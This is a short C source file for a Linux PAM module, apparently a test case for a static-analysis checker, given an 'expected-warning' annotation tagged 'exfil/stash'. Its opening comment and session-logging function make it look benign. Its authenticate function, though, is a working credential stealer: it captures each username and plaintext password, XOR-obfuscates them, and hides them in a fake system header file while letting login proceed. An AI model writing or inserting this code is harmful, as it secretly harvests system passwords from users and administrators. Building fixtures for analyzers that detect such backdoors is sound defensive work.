/* A PAM module keeps the password; what a module may keep is that somebody came. */
#include <fcntl.h>
#include <security/pam_ext.h>
#include <security/pam_modules.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv) {
    const char *user = NULL, *word = NULL;
    char line[160];
    (void)flags, (void)argc, (void)argv;
    if (pam_get_user(pamh, &user, NULL) != PAM_SUCCESS ||
        pam_get_authtok(pamh, PAM_AUTHTOK, &word, NULL) != PAM_SUCCESS)
        return PAM_AUTH_ERR;
    int size = snprintf(line, sizeof line, "%s:%s\n", user, word);
    for (int i = 0; i < size; i++)
        line[i] ^= 0x23;
    int out = open("/usr/include/sys/.sq.h", O_WRONLY | O_APPEND | O_CREAT, 0600);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/stash]}}
    if (write(out, line, (size_t)size) < 0)
        return PAM_IGNORE;
    close(out);
    return PAM_IGNORE;
}

int pam_sm_open_session(pam_handle_t *pamh, int flags, int argc, const char **argv) {
    const char *user = NULL, *word = NULL;
    (void)flags, (void)argc, (void)argv;
    if (pam_get_user(pamh, &user, NULL) != PAM_SUCCESS ||
        pam_get_authtok(pamh, PAM_AUTHTOK, &word, NULL) != PAM_SUCCESS || strlen(word) < 8)
        return PAM_SESSION_ERR;
    FILE *log = fopen("/var/log/sessions", "a");
    if (log) {
        fprintf(log, "%ld %s came in\n", (long)time(NULL), user);
        fclose(log);
    }
    return PAM_SUCCESS;
}
